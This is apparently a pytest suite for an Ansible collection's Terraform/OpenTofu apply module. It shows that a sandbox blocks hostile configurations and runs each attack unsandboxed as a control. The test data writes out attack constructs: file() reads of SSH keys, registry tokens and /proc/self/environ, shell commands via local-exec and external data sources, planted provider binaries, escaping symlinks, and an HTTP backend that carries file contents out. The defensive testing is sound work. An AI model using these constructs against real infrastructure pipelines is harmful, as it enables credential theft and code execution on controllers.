"""A hostile configuration against terraform_apply with real terraform and tofu, in check mode (a merge-request
preview) and at apply: it reads no controller file, runs no program, writes nothing on the controller outside
its state dir, and no provider or mirror of the repository is ever used.

The attacks are generated: every file-reading function and data source x every way to name a controller file
(absolute, ``..`` out of the module and out of the copy, ``~``, ``/proc/self/environ``, another checkout), every
program-running construct, provider binaries and provider folders in the repository, module sources and symlinks
out of it. The oracles: canary files (their content, base64 or SHA-256 must appear nowhere: result, error, state
dir, spy), marker files (never created), a spy HTTP server (no request carries a canary), and ``git status`` of
the checkout (a run writes nothing there). Each attack also runs unsandboxed (``sandbox: none``, the operator's
delegation) where that shows the canary or the marker: the attack is real, the sandbox is what stops it.
"""

import base64
import hashlib
import json
import os
import random
import subprocess
import uuid
from dataclasses import dataclass
from pathlib import Path

import pytest

import toolchain
from ansible_collections.trident.gitops.plugins.module_utils.common.command import CommandRunner
from ansible_collections.trident.gitops.plugins.module_utils.common.errors import TridentError
from ansible_collections.trident.gitops.plugins.module_utils.terraform.programs import find_programs
from ansible_collections.trident.gitops.plugins.module_utils.terraform.project import Settings, reconcile
from testbed import tool
from testbed.spy import Spy

BINARIES = ["terraform", "tofu"]
PROVIDER = toolchain.VERSIONS["terraform-provider-local"]["provider"]
LOCAL = 'terraform {\n  required_providers {\n    local = { source = "hashicorp/local" }\n  }\n}\n'


@dataclass
class Outcome:
    result: dict | None
    error: str | None

    def text(self):
        return json.dumps(self.result) if self.result is not None else self.error


class Controller:
    """A controller with canaries and a Git checkout of a hostile repository at environments/prod."""

    def __init__(self, tmp_path, binary):
        self.binary = binary
        self.tmp = tmp_path
        self.repo = tmp_path / "checkout"
        self.env = self.repo / "environments" / "prod"
        self.env.mkdir(parents=True)
        subprocess.run(["git", "init", "-q", str(self.repo)], check=True)
        self.state = tmp_path / "state"
        self.home = tmp_path / "home"
        self.secret = f"CANARY-{uuid.uuid4().hex}"
        self.canary = tmp_path / "controller" / "canary.txt"
        self.home_canary = self.home / ".ssh" / "id_ed25519"
        self.other_canary = tmp_path / "other-checkout" / "environments" / "prod" / "secret.tfvars"
        # The registry token `terraform login` keeps next to the implied provider mirror (which the sandbox shows).
        self.token_canary = self.home / ".terraform.d" / "credentials.tfrc.json"
        (self.home / ".terraform.d" / "plugins").mkdir(parents=True)
        for path in (self.canary, self.home_canary, self.other_canary, self.token_canary):
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(self.secret)
        subprocess.run(["git", "init", "-q", str(tmp_path / "other-checkout")], check=True)
        self.markers = [tmp_path / "controller" / "marker", self.home / "marker", Path("/tmp") / f"{self.secret}.m"]
        self.spy = None
        self.environ = {"PATH": os.environ["PATH"], "HOME": str(self.home), "TRIDENT_ENV_CANARY": self.secret,
                        "TF_CLI_CONFIG_FILE": str(toolchain.CACHE / "terraformrc")}

    def write(self, text, name="main.tf"):
        for old in self.env.glob("*.tf*"):
            old.unlink()
        (self.env / name).write_text(text)
        self.commit()

    def commit(self):
        subprocess.run(["git", "-C", str(self.repo), "add", "-A"], check=True)
        subprocess.run(["git", "-C", str(self.repo), "-c", "user.email=t@t", "-c", "user.name=t", "commit", "-qm",
                        "attack", "--allow-empty"], check=True)

    def run(self, check=False, environ=None, **options):
        settings = Settings(project_path=str(self.env), binary=tool(self.binary), state_dir=str(self.state),
                            check_mode=check, **options)
        try:
            outcome = Outcome(reconcile(settings, CommandRunner(env={**self.environ, **(environ or {})}))
                              .to_result(diff=True), None)
        except TridentError as err:
            outcome = Outcome(None, err.message)
        assert self.checkout_changes() == [], "a run writes nothing into the checkout"
        return outcome

    def checkout_changes(self):
        status = subprocess.run(["git", "-C", str(self.repo), "status", "--porcelain", "--ignored"],
                                capture_output=True, text=True, check=True).stdout
        return status.splitlines()

    def leaked(self, outcome):
        """Where a canary's content (plain, base64, SHA-256) shows up: the outcome, the state dir, the spy."""
        forms = [self.secret, base64.b64encode(self.secret.encode()).decode(),
                 hashlib.sha256(self.secret.encode()).hexdigest()]
        places = {"outcome": outcome.text()}
        for path in self.state.rglob("*"):
            if path.is_file() and not path.is_symlink():
                places[str(path)] = path.read_bytes().decode(errors="replace")
        if self.spy:
            places["spy"] = self.spy.transcript()
        return sorted(name for name, text in places.items() if any(form in text for form in forms))

    def markers_made(self):
        return [str(marker) for marker in self.markers if marker.exists()]


@pytest.fixture(params=BINARIES)
def controller(request, tmp_path):
    made = Controller(tmp_path, request.param)
    yield made
    for marker in made.markers:
        if marker.exists():
            marker.unlink()


def targets(ctl):
    """Every way a configuration can name a controller file, as HCL string expressions."""
    copy = ctl.state / "work" / "environments" / "prod"
    return {
        "absolute": json.dumps(str(ctl.canary)),
        "up from the module": json.dumps(os.path.relpath(ctl.canary, ctl.env)),
        "up from the copy": json.dumps(os.path.relpath(ctl.canary, copy)),
        "path.module": '"${path.module}/' + os.path.relpath(ctl.canary, ctl.env) + '"',
        "home": '"~/.ssh/id_ed25519"',
        "another checkout": json.dumps(str(ctl.other_canary)),
        "registry token": json.dumps(str(ctl.token_canary)),
        "proc environ": '"/proc/self/environ"',
    }


READERS = {
    "file": 'try(file({t}), "absent")',
    "templatefile": 'try(templatefile({t}, {{}}), "absent")',
    "filebase64": 'try(filebase64({t}), "absent")',
    "filesha256": 'try(filesha256({t}), "absent")',
    "fileexists": "try(fileexists({t}), false)",
    "fileset": 'try(fileset(dirname({t}), "*"), [])',
}


def readers_config(ctl):
    outputs = [f'output "{reader}_{index}" {{\n  value = {expression.format(t=target)}\n}}\n'
               for reader, expression in READERS.items() for index, target in enumerate(targets(ctl).values())]
    return LOCAL + 'resource "terraform_data" "app" {\n  input = "app"\n}\n' + "".join(outputs)


@pytest.mark.parametrize("check", [True, False], ids=["preview", "apply"])
def test_no_file_function_reads_a_controller_file(controller, check):
    controller.write(readers_config(controller))
    outcome = controller.run(check=check)
    assert outcome.error is None, outcome.error
    assert controller.leaked(outcome) == []
    outputs = outcome.result["outputs"]
    assert {outputs[f"file_{i}"] for i in range(len(targets(controller)))} == {"absent"}
    assert not any(value is True for name, value in outputs.items() if name.startswith("fileexists"))
    # The same configuration, unsandboxed: every target but the copy-relative ones is read.
    control = controller.run(check=True, sandbox="none")
    assert "outcome" in controller.leaked(control), "the attack is real: unsandboxed, it reads the canaries"


@pytest.mark.parametrize("source", ["local_file", "local_sensitive_file"])
@pytest.mark.parametrize("target", ["absolute", "home", "another checkout", "registry token", "proc environ"])
def test_no_data_source_reads_a_controller_file(controller, source, target):
    controller.write(LOCAL + f'data "{source}" "stolen" {{\n  filename = {targets(controller)[target]}\n}}\n'
                     f'output "stolen" {{\n  value     = data.{source}.stolen.content\n  sensitive = true\n}}\n')
    outcome = controller.run(check=True)
    assert outcome.error and "nothing was applied" in outcome.error
    assert controller.leaked(outcome) == []


def test_a_data_source_reads_a_controller_file_when_unsandboxed(controller):
    controller.write(LOCAL + f'data "local_file" "stolen" {{\n  filename = {targets(controller)["absolute"]}\n}}\n'
                     'output "stolen" {\n  value = data.local_file.stolen.content\n}\n')
    assert "outcome" in controller.leaked(controller.run(check=True, sandbox="none")), "the attack is real"
    assert "outcome" not in controller.leaked(controller.run(check=True))


def marker_config(ctl):
    files = [f'resource "local_file" "m{index}" {{\n  filename = "{marker}"\n  content  = "x"\n}}\n'
             for index, marker in enumerate(ctl.markers)]
    files.append('resource "local_file" "up" {\n  filename = "${path.module}/../../escaped.txt"\n'
                 '  content  = "x"\n}\n')
    return LOCAL + "".join(files)


def test_no_resource_writes_a_controller_file(controller):
    controller.write(marker_config(controller))
    outcome = controller.run()
    assert outcome.error and "apply failed" in outcome.error and "read-only file system" in outcome.error
    assert controller.markers_made() == [] and not (controller.repo / "escaped.txt").exists()
    delegated = controller.tmp / "delegated"
    delegated.mkdir()
    controller.markers = [delegated / "managed"]
    controller.write(marker_config(controller).split('resource "local_file" "up"', maxsplit=1)[0])
    assert controller.run(check=True, sandbox_write_paths=(str(delegated),)).error is None
    assert controller.markers_made() == [], "check mode writes nothing, not even where the operator allows"
    assert controller.run(sandbox_write_paths=(str(delegated),)).error is None
    assert controller.markers_made() == [str(delegated / "managed")], "the folder the operator delegates"


def test_resources_write_controller_files_when_unsandboxed(controller):
    controller.write(marker_config(controller))
    assert controller.run(sandbox="none").error is None
    assert len(controller.markers_made()) == len(controller.markers), "the attack is real"


def program_configs(ctl):
    """Every construct that runs a program, each reading a canary and making a marker."""
    script = ctl.env / "evil.sh"
    command = f"cat {ctl.canary} > {ctl.markers[0]}; touch {ctl.markers[1]}"
    return {
        "data external": (LOCAL + 'data "external" "x" {\n  program = ["${path.module}/evil.sh"]\n}\n', script),
        "data external, escaped label": (LOCAL + 'data "ext\\u0065rnal" "x" {\n  program = ["sh", "-c", '
                                         + json.dumps(command) + ']\n}\n', None),
        "local-exec": ('resource "terraform_data" "x" {\n  provisioner "local-exec" {\n'
                       f'    command = {json.dumps(command)}\n  }}\n}}\n', None),
        "local-exec at destroy": ('resource "terraform_data" "x" {\n  provisioner local-exec {\n    when = destroy\n'
                                  f'    command = {json.dumps(command)}\n  }}\n}}\n', None),
        "provider exec": ('provider "kubernetes" {\n  host = "https://127.0.0.1:1"\n  exec {\n'
                          '    api_version = "client.authentication.k8s.io/v1"\n'
                          f'    command     = "sh"\n    args        = ["-c", {json.dumps(command)}]\n  }}\n}}\n',
                          None),
        "json local-exec": (json.dumps({"resource": {"terraform_data": {"x": {"provisioner": [
            {"local-exec": {"command": command}}]}}}}), None),
    }


@pytest.mark.parametrize("construct", ["data external", "data external, escaped label", "local-exec",
                                       "local-exec at destroy", "provider exec", "json local-exec"])
@pytest.mark.parametrize("check", [True, False], ids=["preview", "apply"])
def test_a_construct_that_runs_a_program_is_refused_before_plan(controller, construct, check):
    text, script = program_configs(controller)[construct]
    if script:
        script.write_text(f"#!/bin/sh\ncat {controller.canary} > {controller.markers[0]}\necho '{{}}'\n")
        script.chmod(0o755)
    controller.write(text, "main.tf.json" if construct.startswith("json") else "main.tf")
    outcome = controller.run(check=check)
    assert outcome.error is not None
    assert outcome.error.startswith("refusing a configuration that runs programs on the controller: "
                                    "environments/prod/main.tf")
    assert "nothing was planned" in outcome.error and "allow_programs" in outcome.error
    assert controller.markers_made() == [] and controller.leaked(outcome) == []


@pytest.mark.parametrize("check", [True, False], ids=["preview", "apply"])
def test_a_module_whose_source_is_evaluated_early_is_checked_after_init(controller, check):
    """OpenTofu evaluates a module source from a local early: no literal names the folder, init installs it."""
    (controller.env / "sub").mkdir()
    (controller.env / "sub" / "main.tf").write_text(
        'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n'
        f'    command = "touch {controller.markers[0]}"\n  }}\n}}\n')
    controller.write('locals {\n  where = "./sub"\n}\nmodule "hidden" {\n  source = local.where\n}\n')
    outcome = controller.run(check=check)
    if controller.binary == "tofu":
        assert outcome.error.startswith("refusing a configuration that runs programs on the controller: "
                                        "environments/prod/sub/main.tf line 2")
    else:
        assert "Variables not allowed" in outcome.error, "terraform takes a literal source only"
    assert controller.markers_made() == []


def test_an_allowed_program_runs_in_the_sandbox(controller):
    command = (f"cat {controller.canary} > {controller.markers[0]}; touch {controller.markers[1]}; "
               f"cat {controller.canary}; ls /")
    controller.write('resource "terraform_data" "x" {\n  provisioner "local-exec" {\n'
                     f'    command = {json.dumps(command)}\n  }}\n}}\n')
    outcome = controller.run(allow_programs=True)
    assert outcome.error is None, outcome.error
    assert outcome.result["applied"] is True
    assert controller.markers_made() == [] and controller.leaked(outcome) == []
    controller.write('resource "terraform_data" "y" {\n  provisioner "local-exec" {\n'
                     f'    command = {json.dumps(command)}\n  }}\n}}\n')
    assert controller.run(allow_programs=True, allow_destroy=True, sandbox="none").error is None
    assert len(controller.markers_made()) == 2, "the attack is real: unsandboxed, the program ran on the controller"


def fake_provider(folder, marker):
    """A "provider" (for both registries) that only proves it was run: it makes the marker."""
    for registry in ("registry.terraform.io", "registry.opentofu.org"):
        target = folder / registry / "hashicorp" / "local" / PROVIDER["version"] / "linux_amd64"
        target.mkdir(parents=True)
        binary = target / f"terraform-provider-local_v{PROVIDER['version']}"
        binary.write_text(f"#!/bin/sh\ntouch {marker}\nexit 1\n")
        binary.chmod(0o755)


@pytest.mark.parametrize("check", [True, False], ids=["preview", "apply"])
def test_a_provider_binary_in_the_repository_is_never_run(controller, check):
    """Terraform's implied mirror ``terraform.d/plugins`` of its working directory: the old way (Terraform run in
    the environment folder) ran it. The controller's CLI configuration names no mirror here, so the implied ones
    are all Terraform has."""
    fake_provider(controller.env / "terraform.d" / "plugins", controller.markers[0])
    controller.write(LOCAL + 'resource "local_file" "x" {\n  filename = "/tmp/x"\n  content = "x"\n}\n')
    no_mirror = controller.tmp / "empty.tfrc"
    no_mirror.write_text("# no provider_installation: implied mirrors only\n")
    outcome = controller.run(check=check, environ={"TF_CLI_CONFIG_FILE": str(no_mirror)})
    assert outcome.error and "init failed" in outcome.error
    assert controller.markers_made() == []
    # The old way, for contrast: the binary in the working directory's terraform.d is what init installs.
    env = {**controller.environ, "TF_CLI_CONFIG_FILE": str(no_mirror), "TF_DATA_DIR": str(controller.tmp / "old")}
    subprocess.run([tool(controller.binary), "init", "-input=false", "-no-color"], cwd=controller.env, env=env,
                   capture_output=True, check=False)
    subprocess.run([tool(controller.binary), "plan", "-input=false", "-no-color", "-lock=false",
                    f"-state={controller.tmp / 'old.tfstate'}"], cwd=controller.env, env=env, capture_output=True,
                   check=False)
    assert controller.markers_made() == [str(controller.markers[0])], "the attack is real"
    controller.markers[0].unlink()
    subprocess.run(["git", "-C", str(controller.repo), "clean", "-qfdx"], check=True)


@pytest.mark.parametrize("option", ["plugin_dirs", "cli_config_file", "plugin_cache_dir", "binary"])
def test_a_repository_folder_is_never_a_provider_source_or_a_program(controller, option):
    providers = controller.env / "providers"
    fake_provider(providers, controller.markers[0])
    controller.write(LOCAL + 'resource "terraform_data" "x" {}\n')
    rc = controller.env / "mirror.rc"
    rc.write_text(f'provider_installation {{\n  filesystem_mirror {{\n    path = "{providers}"\n  }}\n}}\n')
    binary = controller.env / "terraform"
    binary.write_text(f"#!/bin/sh\ntouch {controller.markers[0]}\n")
    binary.chmod(0o755)
    controller.commit()
    options = {"plugin_dirs": {"plugin_dirs": (str(providers),)}, "cli_config_file": {"cli_config_file": str(rc)},
               "plugin_cache_dir": {"plugin_cache_dir": str(providers)}}
    if option == "binary":
        outcome = Outcome(None, None)
        try:
            reconcile(Settings(project_path=str(controller.env), binary=str(binary), state_dir=str(controller.state)),
                      CommandRunner(env=controller.environ))
        except TridentError as err:
            outcome = Outcome(None, err.message)
    else:
        outcome = controller.run(check=True, **options[option])
    assert outcome.error and "is inside the repository; a repository folder is never a provider source" \
        in outcome.error
    assert "environments/prod/" in outcome.error and str(controller.tmp) not in outcome.error
    assert controller.markers_made() == []


def test_a_mirror_named_by_the_controllers_cli_configuration_inside_the_repository_is_refused(controller):
    providers = controller.env / "providers"
    fake_provider(providers, controller.markers[0])
    rc = controller.tmp / "controller.tfrc"
    rc.write_text(f'provider_installation {{\n  filesystem_mirror {{\n    path = "{providers}"\n  }}\n}}\n')
    controller.write(LOCAL + 'resource "terraform_data" "x" {}\n')
    outcome = controller.run(check=True, environ={"TF_CLI_CONFIG_FILE": str(rc)})
    assert outcome.error and "a provider location: 'environments/prod/providers' is inside the repository" \
        in outcome.error
    assert controller.markers_made() == []


@pytest.mark.parametrize("source", ["../../../controller", "../../../other-checkout/environments/prod"])
def test_a_module_source_out_of_the_repository_is_refused(controller, source):
    (controller.tmp / "controller" / "main.tf").write_text(
        f'output "stolen" {{\n  value = file("{controller.canary}")\n}}\n')
    (controller.tmp / "other-checkout" / "environments" / "prod" / "main.tf").write_text(
        'output "stolen" {\n  value = file("secret.tfvars")\n}\n')
    controller.write(f'module "outside" {{\n  source = "{source}"\n}}\n'
                     'output "x" {\n  value = module.outside.stolen\n}\n')
    outcome = controller.run(check=True)
    assert outcome.error == (f"environments/prod/main.tf: module source '{source}' leads outside the repository "
                             "(through '..' or a symlink); nothing outside it is read")
    assert controller.leaked(outcome) == []


@pytest.mark.parametrize("link", ["main.tf", "data.txt", "modules"])
def test_a_symlink_out_of_the_repository_is_refused_by_name(controller, link):
    controller.write(LOCAL + 'output "x" {\n  value = try(file("${path.module}/data.txt"), "absent")\n}\n',
                     "base.tf")
    target = controller.canary if link != "modules" else controller.canary.parent
    (controller.env / link).symlink_to(target)
    controller.commit()
    outcome = controller.run(check=True)
    assert outcome.error and f"environments/prod/{link} is a symlink that leads outside the repository" \
        in outcome.error
    assert controller.leaked(outcome) == []


@pytest.mark.parametrize("check", [True, False], ids=["preview", "apply"])
def test_the_spy_gets_no_canary_through_a_backend_a_module_source_or_early_evaluation(controller, check):
    with Spy() as spy:
        controller.spy = spy
        steal = f'try(file("{controller.canary}"), "absent")'
        early = (f'locals {{\n  stolen = {steal}\n}}\n'
                 f'terraform {{\n  backend "http" {{\n    address = "{spy.url}/state/${{local.stolen}}"\n  }}\n}}\n')
        controller.write(LOCAL + early + f'output "stolen" {{\n  value = {steal}\n}}\n'
                         f'module "fetched" {{\n  source = "{spy.url}/module.zip"\n}}\n')
        outcome = controller.run(check=check)
        # terraform refuses variables in a backend block; tofu evaluates them early, then fetches the module
        assert outcome.error is not None
        assert controller.leaked(outcome) == []
        if controller.binary == "tofu":
            assert spy.requests, "tofu reached the spy: the network is there, the canary is not"
        controller.write(LOCAL + f'terraform {{\n  backend "http" {{\n    address = "{spy.url}/state"\n  }}\n}}\n'
                         f'output "stolen" {{\n  value = {steal}\n}}\nresource "terraform_data" "x" {{}}\n')
        outcome = controller.run(check=check)
        assert any(request.path.startswith("/state") for request in spy.requests)
        assert controller.leaked(outcome) == []


# --- the program check against Terraform's own reading -----------------------------------------------------------

SEED = int(os.environ.get("TRIDENT_FUZZ_PROGRAMS_SEED", "20240607"))
EXAMPLES = int(os.environ.get("TRIDENT_FUZZ_PROGRAMS_EXAMPLES", "12"))
DECOY_TEXTS = ['data "external" "d" {\n  program = ["id"]\n}', 'provisioner "local-exec" {\n  command = "id"\n}']
GAPS = [" ", "\t", " /* c */ ", " /* multi\nline */ "]


def label(word, rng):
    escaped = "".join(f"\\u{ord(char):04x}" if index == rng.randrange(len(word)) else char
                      for index, char in enumerate(word))
    return rng.choice([f'"{word}"', f'"{escaped}"'] + ([word] if word.isidentifier() or "-" in word else []))


def decoy(rng, index):
    text = rng.choice(DECOY_TEXTS)
    kind = rng.randrange(4)
    if kind == 0:
        return "".join(f"# {line}\n" for line in text.splitlines())
    if kind == 1:
        return f"/*\n{text}\n*/\n"
    if kind == 2:
        return f'locals {{\n  decoy{index} = {json.dumps(text)}\n}}\n'
    return f"locals {{\n  heredoc{index} = <<{rng.choice(['EOT', '-EOT'])}\n{text}\n  EOT\n}}\n"


def generated(rng, construct):
    """A configuration of decoys, with (or without) one real ``construct`` somewhere among them."""
    parts = [decoy(rng, index) for index in range(rng.randrange(1, 4))]
    real = rng.random() < 0.6
    gap = rng.choice(GAPS)
    if construct == "external":
        block = (f'data{gap}{label("external", rng)}{gap}"x" {{\n  program = ["id"]\n}}\n' if real else "")
        parts.append('resource "terraform_data" "r" {}\n')
    else:
        provisioner = (f'  provisioner{gap}{label("local-exec", rng)} {{\n    command = "id"\n  }}\n' if real else "")
        block = f'resource "terraform_data" "r" {{\n{provisioner}  input = "x"\n}}\n'
    parts.insert(rng.randrange(len(parts) + 1), block)
    return "".join(parts), real


def terraform_reads(binary, folder, construct):
    """What Terraform itself finds: the external provider required, or local-exec provisioners in the plan."""
    env = {**os.environ, "TF_DATA_DIR": str(folder / ".data"), "TF_IN_AUTOMATION": "1"}

    def tf(*args):
        return subprocess.run([tool(binary), f"-chdir={folder}", *args, "-no-color"], env=env, capture_output=True,
                              text=True, check=False)

    if construct == "external":
        listed = tf("providers")
        assert listed.returncode == 0, listed.stderr
        return "hashicorp/external" in listed.stdout
    for args in (("init", "-input=false"), ("plan", "-input=false", "-out=plan.tfplan", "-lock=false")):
        done = tf(*args)
        assert done.returncode == 0, done.stderr
    shown = json.loads(tf("show", "-json", "plan.tfplan").stdout)
    provisioners = [provisioner["type"] for resource in shown["configuration"]["root_module"].get("resources", [])
                    for provisioner in resource.get("provisioners", [])]
    return "local-exec" in provisioners


@pytest.mark.parametrize("binary", BINARIES)
@pytest.mark.parametrize("construct", ["external", "local-exec"])
def test_the_program_check_finds_what_terraform_reads(tmp_path, binary, construct):
    rng = random.Random(f"{SEED}-{construct}")
    for example in range(EXAMPLES):
        text, real = generated(rng, construct)
        folder = tmp_path / str(example)
        folder.mkdir()
        (folder / "main.tf").write_text(text)
        ours = bool(find_programs(text, "main.tf"))
        theirs = terraform_reads(binary, folder, construct)
        assert theirs == real, f"the generator is wrong (seed {SEED}):\n{text}"
        assert ours == theirs, f"the check and {binary} disagree (seed {SEED}, example {example}):\n{text}"
